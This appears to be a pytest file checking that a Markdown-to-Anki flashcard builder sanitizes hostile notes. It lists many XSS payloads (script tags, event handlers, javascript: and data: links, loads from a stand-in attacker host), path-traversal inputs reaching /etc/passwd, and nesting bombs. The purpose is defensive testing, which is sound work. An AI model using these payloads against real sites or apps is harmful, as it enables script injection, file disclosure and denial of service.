"""A note written by an enemy makes inert cards: nothing in them runs, nothing is fetched, no file outside the notes is read."""

from __future__ import annotations

import os
import re
import sys
import time
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Dialog, Page
from real_anki import import_package

from deckwright import making, media, notetype, outline, render, safe

Notes = Callable[..., Path]
Run = Callable[..., Result]

ELSEWHERE = "http://attacker.invalid"
# Every way to run a script or fetch a file from HTML that we know of, each in its plainest form.
ATTACKS = (
    # elements that run, load or replace the page
    "<script>ran(1)</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<SCRIPT >ran(1)</SCRIPT >",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    f"<iframe src={ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    f"<object data={ELSEWHERE}/a.swf></object>",
    f"<embed src={ELSEWHERE}/a.swf>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/a.css'; * {{ background: url({ELSEWHERE}/a.png) }}</style>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><input autofocus onfocus=ran(1)><button formaction=javascript:ran(1)>go</button></form>",
    f"<video autoplay onloadstart=ran(1) poster={ELSEWHERE}/p.png><source src=x onerror=ran(1)></video>",
    f"<audio autoplay src={ELSEWHERE}/a.mp3 onerror=ran(1)></audio>",
    "<template><script>ran(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<xmp><img src=x onerror=ran(1)></xmp>",
    "<plaintext><img src=x onerror=ran(1)>",
    "<textarea autofocus onfocus=ran(1)></textarea>",
    "<select autofocus onfocus=ran(1)></select>",
    "<dialog open onclose=ran(1)></dialog>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<isindex type=image src=x onerror=ran(1)>",
    "<portal src=http://attacker.invalid></portal>",
    "<my-element onclick=ran(1) is=x>x</my-element>",
    # attributes that run
    "<b onclick=ran(1) onmouseover=ran(1)>x</b>",
    '<kbd onpointerenter="ran(1)" tabindex=1 autofocus onfocus="ran(1)">x</kbd>',
    "<details open ontoggle=ran(1)>x</details>",
    "<i style='animation: x 1s' onanimationstart=ran(1)>x</i>",
    f"<span style='background:url({ELSEWHERE}/s.png)'>x</span>",
    "<b/onclick=ran(1)>x</b>",
    "<b\tonclick\n=ran(1)>x</b>",
    "<br onclick=ran(1) >",
    '<sub title="><script>ran(1)</script>">x</sub>',
    # pictures
    "<img src=x onerror=ran(1)>",
    "<img src='x' onerror='ran(1)'//",
    f"<img src={ELSEWHERE}/a.png srcset='{ELSEWHERE}/b.png 2x'>",
    f"<img src=//attacker.invalid/a.png>",  # noqa: F541 - one of a kind with its neighbours
    f"![x]({ELSEWHERE}/a.png)",
    '![x" onerror="ran(1)](a.png)',
    '![x](a.png" onerror="ran(1))',
    '![[x.png|x" onerror="ran(1)]]',
    "![x](javascript:ran(1))",
    "![x](data:image/svg+xml,<svg/onload=ran(1)>)",
    "<picture><source srcset=http://attacker.invalid/p.png><img src=x></picture>",
    "<input type=image src=x onerror=ran(1)>",
    # links
    "[x](javascript:ran(1))",
    "[x](JaVaScRiPt:ran(1))",
    "[x](<java&#10;script:ran(1)>)",
    "[x](&#106;avascript:ran(1))",
    "[x](<\x01javascript:ran(1)>)",
    "[x](vbscript:ran(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://a/b)",
    "<javascript:ran(1)>",
    "<a href=javascript:ran(1)>x</a>",
    '<a href="x" onclick="ran(1)">x</a>',
    "<a href='&#x6A;avascript:ran(1)'>x</a>",
    '[x](https://e.org"onmouseover="ran(1))',
    '[x](https://e.org "t" onclick="ran(1)")',
    "[x][y]\n\n[y]: javascript:ran(1)",
    # other namespaces, and parsers that disagree
    "<svg onload=ran(1)></svg>",
    "<svg><script>ran(1)</script></svg>",
    f"<svg><image href={ELSEWHERE}/a.png /><use href=data:image/svg+xml,x#y /></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:ran(1)>x</math>",
    "<!--><img src=x onerror=ran(1)>-->",
    "<!-- --!><img src=x onerror=ran(1)> -->",
    "<![CDATA[<img src=x onerror=ran(1)>]]>",
    "<?xml ?><img src=x onerror=ran(1)>",
    "<img src=x one\x00rror=ran(1)>",
    "&lt;img src=x onerror=ran(1)&gt;",
    "\\<img src=x onerror=ran(1)>",
    "`<img src=x onerror=ran(1)>`",
    "`</code><img src=x onerror=ran(1)>`",
    "**<b>**</b><img src=x onerror=ran(1)>",
    "*\u0338 onmouseover=ran(1) autofocus tabindex=1 onfocus=ran(1) x*",  # composes with the end of the tag before it
    "*\u0323\u0338 onmouseover=ran(1) x*",
    "\uff1cimg src=x onerror=ran(1)\uff1e",
    # what Anki and MathJax read
    "$\\href{javascript:ran(1)}{x}$",
    f"\\(\\style{{background:url({ELSEWHERE}/m.png)}}{{x}}\\)",
    "\\[\\mmlToken{mi}[href=javascript:ran(1)]{x}\\]",
    "$</script><img src=x onerror=ran(1)>$",
    "$x\\)<img src=x onerror=ran(1)>\\(y$",
    "[sound:../../secret.mp3] [latex]\\input{/etc/passwd}[/latex] [$]\\input{/etc/passwd}[/$]",
    "[anki:play:q:0]",
    "[so<span></span>und:x.mp3]",
    "{{Question}} {{FrontSide}} {{#Retired}}x{{/Retired}} {{type:Answer}} {{hint:Answer}}",
    "}}{{c1::x<img src=x onerror=ran(1)>}}",
    "{{c1::{{c2::</div><script>ran(1)</script>}}::<img src=x onerror=ran(1)>}}",
)
OUTSIDE = re.compile(r"javascript:|vbscript:|data:|file:|blob:", re.IGNORECASE)


def note(attacks: tuple[str, ...]) -> str:
    """Every attack in every place from which something reaches a card."""
    lines = ["---\ntitle: '<script>ran(1)</script>'\ntags: ['<img/src=x/onerror=ran(1)>']\n---"]
    for k, attack in enumerate(attacks):
        flat = " ".join(attack.split("\n"))
        lines += [
            f"# Article {k} {flat}",
            f"## Section {flat}",
            f"- Q: What of {k} {flat}? A: this {flat}",
            f"  - e.g. {flat}",
            f"- Term {k} :: means {flat}",
            f"- Lesson: number {k} {flat} and more",
            f"  ```{flat[:20].replace('`', '')}\n  {flat}\n  ```",
            f"- A {{{{c1::cloze}}}} in {k} {flat}",
            f"- Parts of {k} {flat}:\n  - one {flat}\n  - two {flat}",
            "",
            attack,
            "",
        ]
    return "\n".join(lines)


class Reader(HTMLParser):
    """What an HTML parser makes of a field: its tags, with their attributes."""

    def __init__(self, field: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(field)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.tags.append((f"<!--{data}", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append((f"<!{decl}", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append((f"<?{data}", {}))


KEPT = {"a": {"href"}, "img": {"src", "alt", "width", "height"}, "span": {"class"}, "pre": {"class"}, "ol": {"start"}, "li": {"value"}}


def wrong(field: str) -> list[str]:
    """What stands in a field that may not; nothing, if it is safe. Written apart from the code it judges."""
    found = []
    for tag, attributes in Reader(field).tags:
        if tag not in safe.TAGS:
            found.append(tag)
        for name, value in attributes.items():
            allowed = name in KEPT.get(tag, set()) | {"dir"} or (tag in ("td", "th") and name in ("colspan", "rowspan"))
            harmless = not (name == "href" and not re.match(r"(?:https?|mailto|obsidian):", (value or "").strip(), re.IGNORECASE))
            ours = not (name == "src" and not re.fullmatch(r"dw-[0-9a-f]+\.\w+", value or ""))
            if not (allowed and harmless and ours):
                found.append(f"{tag} {name}={value}")
    return found + re.findall(r"\[(?:sound:(?!dw-)|anki:|/?latex\]|/?\${1,2}\])", field)


def faces(text: str) -> list[dict[str, str]]:
    """The fields of every card and draft of a note, as they go into a package or a page."""
    read, _ = outline.read(text, "n.md")
    return [media.placed(render.fields(card), {}) for card in making.cards(read) if card.is_asked]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_into_a_field(attack: str) -> None:
    shown = faces(note((attack,)))
    assert len(shown) > 3
    assert {name: found for fields in shown for name, field in fields.items() if (found := wrong(field))} == {}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_slipped_through_all_stages_would_stop_at_the_last(attack: str) -> None:
    once = safe.html(attack)
    assert wrong(once) == []
    assert safe.html(once) == once


PIECES = [
    "<b>", "</b>", "<i>", "<a href='", "'>", "\">", "<img src=", " onerror=ran(1)", ">", "<", "/", "`", "``", "```\n", "~~~", "$", "$$",
    "\\(", "\\)", "\\[", "[", "](", ")", "![", "![[", "]]", "{{c1::", "}}", "::", "javascript:", "data:text/html,", "<script>",
    "</script>", "<!--", "-->", "\u0338", "\u0323", "&lt;", "&#60;", "&amp;", "*", "**", "~~", "==", "|", "\n", "\n- ", "\n  - ",
    "\n> ", "\n# ", "Q: ", "A: ", "Lesson: ", "word", " ", "<span class='", "<pre class=\"code\">", "<svg>", "<math>", "<style>",
    "</style>", "<br/>", "</p>", "<kbd>", "[sound:", "[latex]", ".png", "é", "שלום",
]  # fmt: skip
mixed = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(mixed)
def test_nothing_outside_the_list_survives_the_last_stage(field: str) -> None:
    once = safe.html(field)
    assert wrong(once) == []
    assert safe.html(once) == once


@settings(max_examples=200, deadline=None)
@given(mixed)
def test_no_mixture_of_markdown_and_html_gets_into_a_field(text: str) -> None:
    for fields in faces(f"# A {text}\n- Lesson: so {text}\n- Q: what {text}? A: {text}\n"):
        for field in fields.values():
            assert wrong(field) == []


def hooked(window: Page) -> tuple[list[str], list[str]]:
    """What a page runs, and what it fetches, from now on."""
    ran: list[str] = []
    fetched: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        ran.append("dialog")
        dialog.dismiss()

    window.expose_function("ran", lambda *_: ran.append("script"))
    window.on("dialog", dismissed)
    window.on("request", lambda request: fetched.append(request.url))
    window.on("framenavigated", lambda frame: fetched.append(frame.url) if frame.parent_frame else None)
    return ran, fetched


def show(window: Page, html: str, path: Path, policy: str = "") -> None:
    """Open a page with this body, and touch everything in it but the links."""
    path.write_text(f"<!doctype html><meta charset=utf-8>{policy}<body class='card'>{html}", "utf-8")
    window.goto(path.as_uri(), wait_until="load")
    window.evaluate(
        """() => { for (const seen of document.querySelectorAll('body *'))
            for (const kind of ['mouseover', 'pointerenter', 'focus', 'click', 'toggle', 'animationstart'])
                if (kind != 'click' || !seen.closest('a')) seen.dispatchEvent(new Event(kind, {bubbles: true})) }"""
    )
    window.wait_for_timeout(300)


def test_the_browser_sees_an_attack_when_there_is_one(browser: Any, tmp_path: Path) -> None:
    context = browser.new_context(offline=True)
    page = context.new_page()
    ran, fetched = hooked(page)
    show(page, f"<img src=x onerror=ran(1)><b onclick=ran(1)>x</b><img src={ELSEWHERE}/a.png>", tmp_path / "bad.html")
    assert len(ran) >= 2
    assert any(ELSEWHERE in url for url in fetched)
    context.close()


def test_hostile_cards_from_real_anki_do_nothing_in_a_browser(
    notes: Notes, run: Run, collection: Any, browser: Any, tmp_path: Path
) -> None:
    notes("a.md", note(ATTACKS).replace("\0", ""))  # a file with a NUL is not read at all
    run("build")
    import_package(collection, Path("decks/notes.apkg"))
    cards = [collection.get_card(number) for number in collection.find_cards("")]
    assert len(cards) > 2 * len(ATTACKS)
    shown = [out for card in cards if (out := card.render_output())]
    html = "".join(f"<div class=card>{out.question_text}</div><div class=card>{out.answer_text}</div>" for out in shown)
    assert not any(out.question_av_tags or out.answer_av_tags for out in shown), "Anki would play something"
    context = browser.new_context(offline=True)
    page = context.new_page()
    ran, fetched = hooked(page)
    show(page, f"<style>{notetype.STYLE}</style>{html}", tmp_path / "cards.html")
    assert (ran, fetched) == ([], [(tmp_path / "cards.html").as_uri()])
    odd = """() => [...document.querySelectorAll('body *')]
        .filter(e => [...e.attributes].some(a => a.name.startsWith('on') || a.name == 'style'))
        .concat([...document.querySelectorAll('script, iframe, object, embed, link, base, form, svg, math, [srcset]')])
        .map(e => e.outerHTML)"""
    assert page.evaluate(odd) == []
    links = page.evaluate("() => [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
    assert [link for link in links if not re.match("(?:https?|mailto|obsidian):", link or "", re.IGNORECASE)] == []
    context.close()


OPENED: list[str] | None = None  # what is opened while a test listens


def _listen(event: str, arguments: tuple[Any, ...]) -> None:
    if OPENED is not None and event in ("open", "os.listdir", "os.scandir", "socket.connect", "subprocess.Popen"):
        OPENED.append(f"{event} {os.fspath(arguments[0]) if isinstance(arguments[0], str | os.PathLike) else arguments[0]!r}")


def test_no_file_outside_the_notes_is_read_and_none_of_200_megabytes(notes: Notes, run: Run, here: Path, monkeypatch: Any) -> None:
    (here / "secret.png").write_bytes(b"a secret")
    (here / "secret.md").write_text("# S\n- Lesson: a secret\n")
    paths = ["../secret.png", "..%2fsecret.png", "/../secret.png", f"{here}/secret.png", f"file://{here}/secret.png", "..\\secret.png",
             "x/../../secret.png", "link.png", "/etc/passwd", "~/secret.png", "big.png", "CON", "a.png\\0", "%00.png", "?.png"]  # fmt: skip
    lines = [f"- Lesson: see number {k} ![a]({p}) ![[{p}]] [sound:{p}] <img src='{p}'> here" for k, p in enumerate(paths)]
    notes("a.md", "# A\n" + "\n".join(lines) + "\n![[../secret.md]]\n")
    (here / "notes/link.png").symlink_to(here / "secret.png")
    with (here / "notes/big.png").open("wb") as big:
        big.truncate(200_000_000)
    run("--help")
    sys.addaudithook(_listen)
    opened: list[str] = []
    monkeypatch.setattr(sys.modules[__name__], "OPENED", opened)
    run("build")
    monkeypatch.setattr(sys.modules[__name__], "OPENED", None)
    assert any("notes/a.md" in line for line in opened), "the test listens"
    forbidden = ("socket", "subprocess", "secret", "big.png", "link.png", "/etc/passwd")
    assert not [line for line in opened if any(word in line for word in forbidden)]
    with zipfile.ZipFile("decks/notes.apkg") as archive:
        assert archive.read("media") == b"{}"
        assert all(b"a secret" not in archive.read(name) for name in archive.namelist())


BOMBS = {
    "stars": "*" * 9_000 + "a",
    "stars-and-letters": "*a " * 3_000,
    "brackets": "[" * 29_000,
    "links": "[a](" * 2_000,
    "pictures": "![" * 14_000,
    "quotes-in-line": "> " * 500 + "x",
    "tags": "<b>" * 3_000 + "x",
    "tags-closed": "<b>" * 3_000 + "x" + "</b>" * 3_000,
    "backticks": "".join("`" * k + " " for k in range(1, 130)),
    "dollars": "$a" * 4_000,
    "tex": "\\(" * 4_000 + "\\[" * 400,
    "clozes": "{{c1::" * 1_500 + "x" + "}}" * 1_500,
    "clozes-open": "{{c1::x " * 1_500,
    "entities": "&lt;" * 2_500,
    "comment": "<!--" * 2_500,
    "marks": "==a" * 3_000,
    "strokes": "\u0338" * 5_000,
    "math": "$" + "{" * 4_000 + "$",
    "footnotes": "[^1]" * 2_500,
    "wiki": "![[a.png|" * 1_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_of_nesting_is_a_card_in_good_time(name: str) -> None:
    began = time.process_time()
    for fields in faces(f"# A\n- Lesson: {BOMBS[name]}\n- Q: What? A: {BOMBS[name]}\n"):
        assert not any(wrong(field) for field in fields.values())
        depth = max(len(re.findall("<(?!/)", field)) for field in fields.values())
        assert depth < 10_000
    assert time.process_time() - began < 10, "seconds; each takes less than one on the machine it was written on"
